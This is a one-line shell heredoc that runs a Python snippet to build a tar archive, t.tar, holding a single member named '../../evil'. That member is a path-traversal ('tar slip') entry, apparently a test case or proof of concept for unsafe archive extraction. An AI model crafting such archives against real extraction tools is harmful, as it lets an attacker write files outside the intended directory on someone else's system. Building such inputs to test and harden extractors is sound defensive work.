python3 - <<'E'
import tarfile, io
t=tarfile.open('t.tar','w')
e=tarfile.TarInfo('../../evil'); e.size=1; t.addfile(e, io.BytesIO(b'b')); t.close()
E
